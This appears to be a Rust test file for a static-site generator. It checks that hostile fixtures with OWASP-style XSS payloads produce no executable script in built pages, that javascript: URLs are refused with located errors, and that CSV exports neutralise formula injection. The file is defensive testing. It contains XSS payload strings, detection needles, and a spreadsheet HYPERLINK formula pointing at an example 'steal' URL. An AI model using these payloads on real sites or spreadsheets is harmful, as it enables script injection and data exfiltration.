//! Quality gate: hostile input. `tests/fixtures/hostile` puts script payloads (OWASP XSS
//! filter-evasion examples) in every text field: site and publisher settings, unit names, plan
//! and task titles and text, targets, progress reports (front matter and Markdown), evidence
//! titles and URLs, corrections, disclosure metadata. The site must build, and loading every
//! page in Chromium must run none of them: `window.__pwned` stays undefined, no dialog opens,
//! and no link or frame points at a `javascript:` URL. Payloads that validation must refuse
//! (script URLs where a URL goes) are checked for their located error.

#[path = "support/quality.rs"]
mod quality;
#[path = "support/site.rs"]
mod site;

use std::fs;
use std::path::Path;

use quality::*;
use site::*;

fn hostile() -> std::path::PathBuf {
    repo().join("tests/fixtures/hostile")
}

fn pages(out: &Path) -> Vec<String> {
    snapshot(out)
        .into_keys()
        .filter(|k| k.ends_with(".html"))
        .collect()
}

#[test]
fn hostile_content_builds_and_no_payload_reaches_the_markup() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build(&hostile(), &out);
    // Statically: no payload survives as markup in any page.
    let mut found = Vec::new();
    for page in pages(&out) {
        let html = fs::read_to_string(out.join(&page)).unwrap();
        for needle in [
            "<script>window.__pwned",
            "<script>alert",
            "<img src=x",
            "<svg onload",
            "<svg/onload",
            "<iframe",
            "<details open ontoggle",
            "<body onload",
            "href=\"javascript:",
            "href=\"JaVaScRiPt:",
        ] {
            if html.contains(needle) {
                found.push(format!("{page}: {needle}"));
            }
        }
    }
    assert!(
        found.is_empty(),
        "payloads in the markup:\n{}",
        found.join("\n")
    );
}

#[test]
fn hostile_content_still_makes_valid_html() {
    let Some(jar) = vnu_jar() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build(&hostile(), &out);
    let (errors, _) = vnu_errors(&jar, &out);
    assert!(errors.is_empty(), "{}", errors.join("\n"));
}

#[test]
fn no_injected_script_runs_in_chromium_on_any_page() {
    if !browser_tools() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build(&hostile(), &out);
    let mut urls: Vec<String> = pages(&out).iter().map(|p| file_url(&out, p)).collect();
    // The search page with queries that hit the payloads, when the theme has one.
    if out.join("search/index.html").is_file() {
        for q in [
            "script",
            "pwned",
            "onerror",
            "方案",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ] {
            urls.push(file_url(&out, &format!("search/index.html?q={q}")));
        }
    }
    let results = browser_check("xss.mjs", &urls);
    assert_eq!(results.len(), urls.len());
    let mut problems = Vec::new();
    for r in &results {
        let page = r["url"]
            .as_str()
            .unwrap()
            .rsplit_once("/public/")
            .unwrap()
            .1;
        if r["pwned"] != false {
            problems.push(format!("{page}: window.__pwned was set"));
        }
        for (what, key) in [("dialog opened", "dialogs"), ("script URL", "scriptLinks")] {
            let list = r[key].as_array().unwrap();
            if !list.is_empty() {
                problems.push(format!("{page}: {what}: {list:?}"));
            }
        }
    }
    eprintln!("xss: {} pages loaded in Chromium", results.len());
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// Where a URL goes, a script URL is refused with a located error instead of being written.
#[test]
fn script_urls_in_url_fields_are_refused_with_located_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    copy_tree(&hostile(), &root);
    let report = root.join("content/plans/hostile-plan/progress/2024-06-30-1.md");
    let text = fs::read_to_string(&report).unwrap().replace(
        "url = '''files/a\" onclick=\"window.__pwned=1.pdf'''",
        "url = ''' JaVaScRiPt:window.__pwned=1'''",
    );
    fs::write(&report, text).unwrap();
    let site_toml = root.join("content/site.toml");
    let text = fs::read_to_string(&site_toml)
        .unwrap()
        .replace(
            "form_url = '''https://example.org/form?a=\"><img src=x onerror=alert(1)>'''",
            "form_url = '''javascript:window.__pwned=1'''",
        )
        .replace(
            "website = '''https://example.org/\"><script>window.__pwned=1</script>'''",
            "website = '''javascript:alert(1)'''",
        );
    fs::write(&site_toml, text).unwrap();
    let out = tmp.path().join("public");
    let o = try_build(&root, &out, &[]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    for want in [
        "content/plans/hostile-plan/progress/2024-06-30-1.md:2:8: error: evidence link \" JaVaScRiPt:window.__pwned=1\" is not an http(s) or relative URL",
        "content/site.toml:21:12: error: form_url \"javascript:window.__pwned=1\" is not an http(s) or relative URL",
        "content/site.toml:18:11: error: website \"javascript:alert(1)\" is not an http(s) or relative URL",
    ] {
        assert!(err.contains(want), "no {want:?} in:\n{err}");
    }
    assert!(!out.exists(), "nothing is written");
}

/// Every text cell of every published CSV that a spreadsheet would read as a formula.
fn formula_cells(out: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for name in ["tasks", "targets", "progress"] {
        let text = fs::read_to_string(out.join(format!("data/{name}.csv"))).unwrap();
        let text = text.trim_start_matches('\u{feff}');
        let mut rdr = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let header = rdr.headers().unwrap().clone();
        for (i, rec) in rdr.records().enumerate() {
            for (col, cell) in header.iter().zip(rec.unwrap().iter()) {
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    found.push(format!("{name}.csv row {} {col}: {cell}", i + 2));
                }
            }
        }
    }
    found
}

#[test]
fn published_csvs_start_no_cell_with_a_formula_and_say_why_text_has_an_apostrophe() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build(&hostile(), &out);
    let tasks = fs::read_to_string(out.join("data/tasks.csv")).unwrap();
    // The title is there, as text a spreadsheet shows and does not run.
    assert!(
        tasks.contains("'=HYPERLINK(\"\"http://example.org/steal?x=\"\"&A1"),
        "{tasks}"
    );
    assert_eq!(formula_cells(&out), Vec::<String>::new());
    // Numbers stay numbers: the target value is written as a plain 10.
    let targets = fs::read_to_string(out.join("data/targets.csv")).unwrap();
    let row = targets.lines().find(|l| l.contains(",3-1,")).unwrap();
    assert!(
        row.contains("'@SUM(1+1)") && row.contains(",'-2+3,") && row.contains(",10,"),
        "{row}"
    );
    let page = fs::read_to_string(out.join("data/index.html")).unwrap();
    assert!(
        page.contains("id=\"formula-safety\""),
        "the data page explains the apostrophe"
    );
    let pkg = fs::read_to_string(out.join("data/datapackage.json")).unwrap();
    assert!(pkg.contains("公式注入"), "{pkg}");
}
